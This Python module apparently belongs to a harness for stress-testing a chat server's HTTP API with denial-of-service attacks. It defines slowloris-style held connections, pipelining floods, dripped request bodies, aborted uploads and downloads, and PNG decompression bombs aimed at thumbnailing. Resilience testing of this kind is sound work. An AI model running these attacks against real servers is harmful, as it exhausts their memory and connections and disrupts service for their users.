"""Attacks by accounts with bodies and answers: unread, slow, aborted, and images."""

import struct
import zlib

from hostile.attack import attack
from hostile.client import FORM, Client, abort, connect, head, multipart


@attack("unread answers", proof=("opened",))
def unread(me):
    hold_answers(me, 150)


def hold_answers(me, connections):
    """Asks for the largest pages with all accounts, and reads none."""
    accounts = me.world.members + me.world.guests
    path = "/api/v1/messages?anchor=newest&num_before=5000&num_after=0&apply_markdown=true"
    requests = [head("GET", path, Client(me.world, account).headers) * 20 for account in accounts]
    me.hold(connections, lambda number: requests[number % len(requests)], buffer=4096)


@attack("pipelining")
def pipelining(me):
    def run(index):
        client = Client(me.world, me.world.members[index])
        batch = head("GET", "/api/v1/users/me", client.headers) * 200
        while not me.is_over():
            client.open().sendall(batch)
            for _ in range(200):
                me.count(client.read().status)

    me.threads(4, run)


@attack("pipelining without reading", proof=("opened",))
def pipelining_unread(me):
    accounts = me.world.members
    batches = [head("GET", "/api/v1/users", Client(me.world, account).headers) * 500 for account in accounts]
    me.hold(150, lambda number: batches[number % len(batches)], buffer=4096)


@attack("dripping bodies of accounts", proof=("drips",))
def dripping(me):
    """Bodies of a mebibyte that arrive but for their ends."""
    accounts = me.world.members + me.world.guests
    begin = b"content=" + b"a" * 900_000

    def opening(number):
        client = Client(me.world, accounts[number % len(accounts)])
        headers = {**client.headers, "Content-Type": FORM}
        return head("PUT", "/api/v1/bot_storage", headers, 1_000_000) + begin

    me.hold(200, opening, b"a")


@attack("dripping small bodies of accounts", processes=4, proof=("drips",))
def dripping_small(me):
    """As long as a body may be without counting as a large one."""
    accounts = me.world.members + me.world.guests
    begin = b"content=" + b"a" * 64_000
    heads = [head("POST", "/api/v1/messages", {**Client(me.world, one).headers, "Content-Type": FORM}, 65_000) for one in accounts]
    me.hold(2000, lambda number: heads[number % len(heads)] + begin, b"a")


FILE = 24 << 20


def upload_large(world):
    client = Client(world, world.members[0])
    uploaded = client.must(client.upload("/user_uploads", "large.bin", bytes(FILE)))
    client.close()
    return uploaded["url"]


@attack("aborted downloads", prepare=upload_large, proof=("begun",))
def downloads(me):
    def run(index):
        client = Client(me.world, me.world.members[0])
        asked = head("GET", me.data, client.headers)
        while not me.is_over():
            connection = connect(me.world, buffer=1 << 16)
            connection.sendall(asked)
            if connection.recv(1 << 16).startswith(b"HTTP/1.1 2"):
                me.count("begun")
            for _ in range(4):
                connection.recv(1 << 16)
            abort(connection)

    me.threads(8, run)


@attack("unread downloads", prepare=upload_large, processes=3, proof=("opened",))
def unread_downloads(me):
    """The server holds the next part of each."""
    asked = head("GET", me.data, Client(me.world, me.world.members[0]).headers)
    me.hold(1500, asked, buffer=4096)


@attack("aborted uploads", proof=("aborted",))
def uploads(me):
    body, kind = multipart("a.bin", bytes(8 << 20))

    def run(index):
        client = Client(me.world, me.world.members[(me.number * 4 + index) % len(me.world.members)])
        begin = head("POST", "/api/v1/user_uploads", {**client.headers, "Content-Type": kind}, len(body))
        while not me.is_over():
            connection = connect(me.world)
            try:
                connection.sendall(begin + body[: 6 << 20])
                me.count("aborted")
            finally:
                abort(connection)

    me.threads(4, run)


@attack("small uploads")
def small_uploads(me):
    me.loop(6, lambda client: client.upload("/user_uploads", "a.txt", b""), me.world.members)


def png(width, height, level=9):
    """A black image of one bit a pixel; a large one is small as a file."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compressobj(level)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    begin = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + begin + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@attack("image bombs")
def images(me):
    bombs(me, 4)


def bombs(me, connections):
    """As many pixels as an image may have, in a few kilobytes."""
    bomb = png(5792, 5792)

    def step(client):
        if client.number % 2:
            return client.upload("/users/me/avatar", "a.png", bomb, "image/png")
        answer = client.upload("/user_uploads", "a.png", bomb, "image/png")
        if answer.status == 200:
            me.count(answer.status)
            answer = client.request("GET", f"/user_uploads/thumbnail{answer.json()['url'][13:]}/840x560.webp")
        return answer

    me.loop(connections, step, me.world.members)


@attack("image bombs beside unread answers", processes=3, proof=("opened",))
def images_and_answers(me):
    """The largest things in memory at a time."""
    if me.number == 0:
        bombs(me, 8)
    else:
        hold_answers(me, 500)
